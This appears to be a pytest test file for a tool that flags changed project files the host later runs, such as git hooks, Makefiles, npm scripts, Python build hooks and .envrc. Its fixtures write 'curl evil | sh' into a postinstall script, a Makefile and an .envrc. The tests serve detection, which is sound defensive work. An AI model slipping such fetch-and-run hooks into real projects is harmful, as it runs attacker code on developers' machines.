"""Which changed work-tree files the host runs later, and why (real files, real git)."""

from __future__ import annotations

from pathlib import Path

from channelcoder.claude.events import Changes, FileChange, HostRunChange
from channelcoder.workspace.hostrun import Watch, from_changes, reason_for
from tests.conftest import git


def test_what_counts_and_what_runs_it() -> None:
    assert reason_for(".husky/pre-commit") == "husky git hook"
    assert reason_for(".githooks/pre-push") == "git hook"
    assert reason_for("tools/hooks/pre-commit", "tools/hooks") == "git hook in core.hooksPath"
    assert reason_for("Makefile") == "runs on `make`"
    assert reason_for("sub/dir/Makefile") == "runs on `make`"
    assert reason_for(".github/workflows/ci.yml") == "CI workflow"
    assert reason_for(".vscode/tasks.json") == "VS Code task"
    assert reason_for(".vscode/launch.json") == "VS Code launch config"
    assert reason_for("tests/conftest.py") == "runs on `pytest`"
    assert reason_for(".envrc") and reason_for(".devcontainer/devcontainer.json")
    for plain in ("src/app.py", ".github/CODEOWNERS", ".vscode/extensions.json", "README.md",
                  "husky/pre-commit"):
        assert reason_for(plain) is None, plain


def test_package_json_and_pyproject_count_only_when_what_runs_changed() -> None:
    def change(path: str, old: str, new: str) -> FileChange:
        return FileChange(path, "modified", old_text=old, new_text=new)

    changes = Changes(files=(
        change("package.json", '{"version": "1.0.0", "scripts": {"test": "jest"}}',
               '{"version": "1.0.1", "scripts": {"test": "jest"}}'),
        change("web/package.json", '{"scripts": {"test": "jest"}}',
               '{"scripts": {"test": "jest", "postinstall": "curl evil | sh"}}'),
        change("pyproject.toml", '[project]\nname = "a"\n', '[project]\nname = "b"\n'),
        change("lib/pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n',
               '[build-system]\nrequires = ["hatchling", "evil"]\n'),
        change("broken/package.json", '{"scripts": {}}', '{"scripts": '),
        change("a/pyproject.toml", '[tool.ruff]\nexclude = ["build"]\n',
               '[tool.ruff]\nexclude = ["build", "dist"]\n'),
        change("b/pyproject.toml", '[tool.hatch.build.hooks.custom]\npath = "h.py"\n',
               '[tool.hatch.build.hooks.custom]\npath = "evil.py"\n'),
        change("c/pyproject.toml", '[project]\nname = "c"\n', '[project\nname = "c"\n'),
        change("src/app.py", "A = 1\n", "A = 2\n"),
    ))
    assert from_changes(changes) == (
        HostRunChange("web/package.json", "npm script"),
        HostRunChange("lib/pyproject.toml", "Python build hook"),
        HostRunChange("broken/package.json", "npm script"),
        HostRunChange("b/pyproject.toml", "Python build hook"),
        HostRunChange("c/pyproject.toml", "Python build hook"))


def test_a_watch_sees_edits_new_files_and_deletions_in_place(git_repo: Path) -> None:
    (git_repo / "Makefile").write_text("all:\n\techo hi\n")
    (git_repo / "conftest.py").write_text("")
    git(git_repo, "add", ".")
    git(git_repo, "commit", "-q", "-m", "build files")
    (git_repo / ".gitignore").write_text(".envrc\n")
    git(git_repo, "config", "core.hooksPath", "tools/hooks")
    watch = Watch(git_repo)
    (git_repo / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    (git_repo / ".husky").mkdir()
    (git_repo / ".husky" / "pre-commit").write_text("#!/bin/sh\n")
    (git_repo / "tools" / "hooks").mkdir(parents=True)
    (git_repo / "tools" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
    (git_repo / "conftest.py").unlink()
    (git_repo / "app.py").write_text("GREETING = 'changed'\n")
    (git_repo / ".envrc").write_text("curl evil | sh\n")  # git-ignored: direnv runs it anyway
    assert watch.changes() == (
        HostRunChange(".envrc", "runs when direnv enters the directory"),
        HostRunChange(".husky/pre-commit", "husky git hook"),
        HostRunChange("Makefile", "runs on `make`"),
        HostRunChange("conftest.py", "runs on `pytest`"),
        HostRunChange("tools/hooks/post-checkout", "git hook in core.hooksPath"))


def test_a_watch_outside_a_repository_walks_the_directory(tmp_path: Path) -> None:
    (tmp_path / "node_modules" / "x").mkdir(parents=True)
    watch = Watch(tmp_path)
    (tmp_path / "Makefile").write_text("all:\n")
    (tmp_path / "node_modules" / "x" / "Makefile").write_text("all:\n")
    assert watch.changes() == (HostRunChange("Makefile", "runs on `make`"),)


def test_names_count_at_any_depth_and_only_whole_names(git_repo: Path) -> None:
    watch = Watch(git_repo)
    for rel in ("lib/build/Makefile", "rules.mk", "xMakefile", "src/setup.pyc", "a/.envrc",
                "web/package.json.bak", "pkg/conftest.py"):
        (git_repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (git_repo / rel).write_text("x\n")
    assert watch.changes() == (
        HostRunChange("a/.envrc", "runs when direnv enters the directory"),
        HostRunChange("lib/build/Makefile", "runs on `make`"),
        HostRunChange("pkg/conftest.py", "runs on `pytest`"),
        HostRunChange("rules.mk", "runs on `make`"))
